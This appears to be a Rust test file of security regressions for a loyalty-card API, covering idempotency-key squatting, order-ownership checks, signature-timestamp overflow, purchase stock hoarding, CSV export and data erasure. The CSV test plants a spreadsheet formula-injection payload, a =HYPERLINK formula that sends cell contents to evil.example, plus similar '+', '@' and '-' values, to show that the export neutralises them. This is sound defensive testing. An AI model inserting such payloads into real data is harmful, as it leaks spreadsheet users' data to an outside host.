//! Security review (issue 31; API 1.3 "Safety"): each test sends a request sequence that an
//! attacker or a careless integrator could send before, and fails without its fix. The
//! webhook sender's `Retry-After` is in webhooks.rs, the gateway's routes in
//! scripts/test_local_gateway.py, the template's token checks in scripts/test_template.py.

use loyalty_tests::{Req, Res, TestEnv};
use serde_json::{json, Value};

use crate::support::*;

async fn free_card(env: &TestEnv) -> String {
    new_card(
        env,
        json!({"kind": "free", "name": "Welcome", "validity": {"kind": "days", "days": 30}}),
    )
    .await
}

async fn paid_card(env: &TestEnv, stock: u64) -> String {
    new_card(
        env,
        json!({"kind": "paid", "name": "Platinum", "price": "99.00", "stock": stock,
        "validity": {"kind": "days", "days": 365}}),
    )
    .await
}

async fn claim_with_key(env: &TestEnv, member: &str, card: &str, key: &str) -> Res {
    let req = Req::post(&format!("/cards/{card}/claim"))
        .param("card_id", card)
        .bearer(&env.token("customer", member))
        .header("Idempotency-Key", key)
        .json(&json!({}))
        .build();
    Res::from_response(claim_card::handler(&env.ctx, req).await)
}

/// `member` redeems `points` on `order` themselves.
async fn redeem_own(env: &TestEnv, member: &str, order: &str, points: i64) -> Res {
    let token = env.token("customer", member);
    env.redeem_as(&token, order, json!({"points": points}))
        .await
}

async fn stock(env: &TestEnv, card: &str) -> Value {
    admin_card(env, "GET", card, "", None).await.body["stock"].clone()
}

/// 004: a customer claiming a free card with `Idempotency-Key: accrue.o1` (the key the API
/// derived for order o1's accrual) blocked that accrual for a day with 422.
#[tokio::test]
async fn seed_004_a_callers_key_spelled_like_an_orders_accrual_blocks_nothing() {
    // A fixed clock: the retry sends the same body (placed_at is now).
    let env = TestEnv::with_clock(api::Clock::Fixed(loyalty_tests::test_epoch())).await;
    earning_shop(&env).await;
    let card = free_card(&env).await;
    let squat = claim_with_key(&env, "m1", &card, "accrue.o1").await;
    assert_eq!(squat.status, 201, "{}", squat.raw);
    let accrued = accrue_now(&env, "m1", "o1", "120.00", json!([])).await;
    assert_eq!(accrued.status, 200, "{}", accrued.raw);
    assert_eq!(accrued.body["points_earned"], 120);
    // The derived keys' separator is refused in a caller's key: no spelling reaches them.
    claim_with_key(&env, "m2", &card, "accrue#o2")
        .await
        .assert_problem(422, "invalid_request");
    let again = accrue_now(&env, "m1", "o1", "120.00", json!([])).await;
    assert_eq!(again.raw, accrued.raw, "a retry replays the accrual");
}

/// 000: with `Idempotency-Key: evt.<event id>` on a claim, the real `payment.succeeded` of
/// that id answered "duplicate" and the paid purchase never settled. And an event id seen
/// before is compared by what it settles: the same id for another purchase is refused.
#[tokio::test]
async fn seed_000_a_callers_key_spelled_like_a_payment_event_settles_nothing_and_blocks_nothing() {
    let env = TestEnv::new().await;
    setup_shop(&env).await;
    let free = free_card(&env).await;
    let card = paid_card(&env, 3).await;
    let squat = claim_with_key(&env, "m1", &free, "evt.evt_9").await;
    assert_eq!(squat.status, 201, "{}", squat.raw);
    let p = purchase(&env, &env.token("customer", "m1"), &card, json!({})).await;
    assert_eq!(p.status, 201, "{}", p.raw);
    let paid = webhook(&env, &payment("evt_9", "payment.succeeded", &p.body)).await;
    assert_eq!(
        (paid.status, &paid.body["status"]),
        (200, &json!("processed")),
        "{}",
        paid.raw
    );
    let pid = p.body["purchase_id"].as_str().unwrap();
    let got = get_purchase(&env, &env.token("customer", "m1"), pid).await;
    assert_eq!(got.body["status"], "paid");

    // The same event id naming m2's purchase is not taken for the one recorded.
    let other = purchase(&env, &env.token("customer", "m2"), &card, json!({})).await;
    assert_eq!(other.status, 201, "{}", other.raw);
    webhook(&env, &payment("evt_9", "payment.succeeded", &other.body))
        .await
        .assert_problem(422, "idempotency_key_reused");
    let oid = other.body["purchase_id"].as_str().unwrap();
    let still = get_purchase(&env, &env.token("customer", "m2"), oid).await;
    assert_eq!(still.body["status"], "pending");
    // The true redelivery of evt_9 is still a duplicate.
    let again = webhook(&env, &payment("evt_9", "payment.succeeded", &p.body)).await;
    assert_eq!(again.body["status"], "duplicate", "{}", again.raw);
}

/// A payment webhook signed `t=-9223372036854775808` overflowed the age check (a panic on
/// the local stack): it is a bad signature like any other stale one.
#[tokio::test]
async fn a_payment_signature_at_the_edge_of_time_is_401() {
    let env = TestEnv::new().await;
    setup_shop(&env).await;
    for t in [i64::MIN, i64::MAX] {
        let req = Req::post("/webhooks/payments")
            .header("webhook-shop", &env.shop)
            .header("webhook-signature", &format!("t={t},v1=00"))
            .raw("{}")
            .build();
        Res::from_response(payment_webhook::handler(&env.ctx, req).await)
            .assert_problem(401, "bad_signature");
    }
}

/// 004: accrue-points never checked who owned the order and rewrote its member: m1 redeems
/// 100 points on o1, the order is accrued for m2, and a refund then restores m1's redeemed
/// points to m2. Accruing another member's order is 409 and changes nothing.
#[tokio::test]
async fn seed_004_an_order_redeemed_by_one_member_is_never_accrued_for_another() {
    let env = TestEnv::new().await;
    earning_shop(&env).await;
    let topped = adjust(
        &env,
        "m1",
        "top-up",
        json!({"account": "points", "delta": 500, "reason": "welcome"}),
    )
    .await;
    assert_eq!(topped.status, 200, "{}", topped.raw);
    let r = redeem_own(&env, "m1", "o1", 100).await;
    assert_eq!(r.status, 200, "{}", r.raw);

    accrue_now(&env, "m2", "o1", "120.00", json!([]))
        .await
        .assert_problem(409, "order_of_another_member");
    assert_eq!(ledger_all(&env, "m2", "points").await.len(), 0);
    // The owner's accrual goes through; refunding it for m2 is refused too.
    let own = accrue_now(&env, "m1", "o1", "120.00", json!([])).await;
    assert_eq!(own.status, 200, "{}", own.raw);
    refund_order(&env, "m2", "o1", "r1", "120.00")
        .await
        .assert_problem(409, "order_of_another_member");
    assert_eq!(member(&env, "m2").await["points"]["balance"], 0);
    // An accrual first, then another member's redemption on it: refused as well.
    let first = accrue_now(&env, "m1", "o2", "50.00", json!([])).await;
    assert_eq!(first.status, 200, "{}", first.raw);
    adjust(
        &env,
        "m2",
        "top-up-2",
        json!({"account": "points", "delta": 500, "reason": "welcome"}),
    )
    .await;
    redeem_own(&env, "m2", "o2", 100)
        .await
        .assert_problem(409, "order_of_another_member");
}

/// 000: each pending purchase reserved a unit for 15 minutes, so one customer buying again
/// and again held a paid card's whole stock. Buying again answers the pending purchase;
/// concurrent buys by one member reserve one unit; after a failed payment a new one opens.
#[tokio::test]
async fn seed_000_one_member_holds_one_pending_purchase_of_a_card() {
    let env = std::sync::Arc::new(TestEnv::new().await);
    setup_shop(&env).await;
    let card = paid_card(&env, 5).await;
    let me = env.token("customer", "m1");
    let first = purchase(&env, &me, &card, json!({})).await;
    assert_eq!(first.status, 201, "{}", first.raw);
    let again = purchase(&env, &me, &card, json!({})).await;
    assert_eq!(again.status, 200, "{}", again.raw);
    assert_eq!(again.body, first.body);
    assert_eq!(stock(&env, &card).await, 4);

    // Ten at once from one customer: still the one purchase, one unit.
    let answers = race(10, |_| {
        let (env, me, card) = (env.clone(), me.clone(), card.clone());
        async move { purchase(&env, &me, &card, json!({})).await }
    })
    .await;
    for a in &answers {
        assert_eq!(a.status, 200, "{}", a.raw);
        assert_eq!(a.body["purchase_id"], first.body["purchase_id"]);
    }
    assert_eq!(stock(&env, &card).await, 4);
    // Another member is not held up.
    let theirs = purchase(&env, &env.token("customer", "m2"), &card, json!({})).await;
    assert_eq!(theirs.status, 201, "{}", theirs.raw);
    assert_eq!(stock(&env, &card).await, 3);

    // The payment failed: the unit is back, and buying again opens a new purchase.
    let failed = webhook(&env, &payment("evt_f", "payment.failed", &first.body)).await;
    assert_eq!(failed.status, 200, "{}", failed.raw);
    assert_eq!(stock(&env, &card).await, 4);
    let retry = purchase(&env, &me, &card, json!({})).await;
    assert_eq!(retry.status, 201, "{}", retry.raw);
    assert_ne!(retry.body["purchase_id"], first.body["purchase_id"]);
    assert_eq!(stock(&env, &card).await, 3);
}

/// 003: names, e-mails and ledger reasons went into CSV as typed; `=HYPERLINK(...)` ran when
/// the owner opened members.csv. Text cells a spreadsheet would evaluate start with `'`;
/// amounts stay numbers; the export still imports back unchanged.
#[tokio::test]
async fn seed_003_exports_neutralise_formulas_and_keep_numbers() {
    let env = TestEnv::new().await;
    earning_shop(&env).await;
    let made = admin_put_profile(
        &env,
        "m1",
        json!({"name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
               "email": "+1+cmd@evil.example", "member_no": "M-1"}),
    )
    .await;
    assert_eq!(made.status, 200, "{}", made.raw);
    for (delta, reason) in [(150, "@SUM(1+1)"), (-40, "-2+3")] {
        let res = adjust(
            &env,
            "m1",
            &format!("adj{delta}"),
            json!({"account": "points", "delta": delta, "reason": reason}),
        )
        .await;
        assert_eq!(res.status, 200, "{}", res.raw);
    }

    let req = Req::get("/admin/members/export")
        .bearer(&env.admin())
        .build();
    let export = Res::from_response(admin_members::handler(&env.ctx, req).await);
    assert_eq!(export.status, 200, "{}", export.raw);
    let row = export.raw.lines().find(|l| l.starts_with("m1,")).unwrap();
    assert!(
        row.starts_with(
            r#"m1,M-1,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",,'+1+cmd@evil.example,"#
        ),
        "{row}"
    );
    assert!(row.contains(",110,"), "the balance is a number: {row}");
    let back = import(&env, "back-1", ImportBody::Csv(export.raw.clone())).await;
    assert_eq!(
        (back.body["unchanged"].clone(), back.body["errors"].clone()),
        (json!(1), json!([])),
        "{}",
        back.raw
    );

    let day = env
        .ctx
        .now()
        .with_timezone(&domain::chrono::FixedOffset::east_opt(8 * 3600).unwrap())
        .date_naive()
        .to_string();
    let req = Req::get("/admin/reports/ledger")
        .query("from", &day)
        .query("to", &day)
        .query("format", "csv")
        .bearer(&env.admin())
        .build();
    let ledger = Res::from_response(admin_reports::handler(&env.ctx, req).await);
    assert_eq!(ledger.status, 200, "{}", ledger.raw);
    let lines: Vec<&str> = ledger.raw.lines().collect();
    assert!(
        lines.iter().any(|l| l.contains(",150,150,'@SUM(1+1),")),
        "{}",
        ledger.raw
    );
    assert!(
        lines.iter().any(|l| l.contains(",-40,110,'-2+3,")),
        "{}",
        ledger.raw
    );
}

/// API 1.2 erasure: a refusal naming a phone was kept for a day in the import's idempotency
/// record, and only 40 pending notices were deleted with the member.
#[tokio::test]
async fn seed_003_erasure_leaves_no_phone_in_refusals_and_no_notice_behind() {
    let env = TestEnv::new().await;
    setup_shop(&env).await;
    let rows = json!({"members": [
        {"member_id": "a1", "phone": "+60123456789"},
        {"member_id": "a2", "phone": "+60123456789"},
    ]});
    let done = import(&env, "imp-phone", ImportBody::Json(rows)).await;
    assert_eq!(done.status, 200, "{}", done.raw);
    assert_eq!(
        done.body["errors"][0]["code"], "phone_taken",
        "{}",
        done.raw
    );
    assert!(!done.raw.contains("123456789"), "{}", done.raw);
    // A bad phone in a row is not repeated either.
    let bad = import(
        &env,
        "imp-bad",
        ImportBody::Json(json!({"members": [{"member_id": "a4", "phone": "+0999"}]})),
    )
    .await;
    assert_eq!(
        bad.body["errors"][0]["code"], "invalid_request",
        "{}",
        bad.raw
    );
    assert!(!bad.raw.contains("0999"), "{}", bad.raw);

    // 55 pending notices for a1, more than one transaction's share.
    let shop = domain::ShopId::parse(&env.shop).unwrap();
    let member = domain::MemberId::parse("a1").unwrap();
    let now = env.ctx.now();
    let notices: Vec<store::Write> = (0..55)
        .map(|i| {
            store::outbox::put(
                &store::outbox::Notice {
                    shop: &shop,
                    member: &member,
                    id: &format!("n{i:03}"),
                    event: store::outbox::Event::Issued,
                    payload: json!({"card_no": "SC-1", "to": "a1@example.com"}),
                    at: now,
                },
                false,
            )
        })
        .collect();
    for chunk in notices.chunks(50) {
        env.store().commit(chunk.to_vec()).await.unwrap();
    }
    assert_eq!(outbox_count(&env).await, 55);
    let req = Req::new("DELETE".parse().unwrap(), "/admin/members/a1")
        .param("member_id", "a1")
        .bearer(&env.admin())
        .json(&json!({"reason": "the member asked"}))
        .build();
    let erased = Res::from_response(member_privacy::handler(&env.ctx, req).await);
    assert_eq!(erased.status, 200, "{}", erased.raw);
    assert_eq!(outbox_count(&env).await, 0);
}

/// The member a1's outbox items (pending notices).
async fn outbox_count(env: &TestEnv) -> usize {
    env.store()
        .member_items(
            &domain::ShopId::parse(&env.shop).unwrap(),
            &domain::MemberId::parse("a1").unwrap(),
        )
        .await
        .unwrap()
        .iter()
        .filter(|it| store::item::opt_s(it, "entity_type") == Some("outbox"))
        .count()
}

/// A refund retried across the deploy of the separated namespaces: its record was written
/// under the old spelling (`refund.o1.r1`), and the retry must find it, not refund twice.
#[tokio::test]
async fn seed_004_a_refund_recorded_under_the_old_key_spelling_is_replayed_not_repeated() {
    let env = TestEnv::with_clock(api::Clock::Fixed(loyalty_tests::test_epoch())).await;
    earning_shop(&env).await;
    let accrued = accrue_now(&env, "m1", "o1", "200.00", json!([])).await;
    assert_eq!(accrued.status, 200, "{}", accrued.raw);
    let refund = || async { refund_order(&env, "m1", "o1", "r1", "50.00").await };
    let first = refund().await;
    assert_eq!(first.status, 200, "{}", first.raw);
    assert_eq!(first.body["points_balance"], 150);
    // The record as the code before the change wrote it.
    let table = env.store().table().to_owned();
    let client = env.store().client();
    let key = |pk: String| {
        std::collections::HashMap::from([
            ("PK".to_owned(), store::item::s(pk)),
            ("SK".to_owned(), store::item::s("IDEM")),
        ])
    };
    let new_pk = format!("SHOP#{}#IDEM#refund#o1#r1", env.shop);
    let mut item = client
        .get_item()
        .table_name(&table)
        .set_key(Some(key(new_pk.clone())))
        .consistent_read(true)
        .send()
        .await
        .unwrap()
        .item
        .expect("the refund's record");
    item.insert(
        "PK".into(),
        store::item::s(format!("SHOP#{}#IDEM#refund.o1.r1", env.shop)),
    );
    client
        .put_item()
        .table_name(&table)
        .set_item(Some(item))
        .send()
        .await
        .unwrap();
    client
        .delete_item()
        .table_name(&table)
        .set_key(Some(key(new_pk)))
        .send()
        .await
        .unwrap();
    let again = refund().await;
    assert_eq!(again.raw, first.raw);
    assert_eq!(member(&env, "m1").await["points"]["balance"], 150);
    assert_eq!(ledger_all(&env, "m1", "points").await.len(), 2);
}
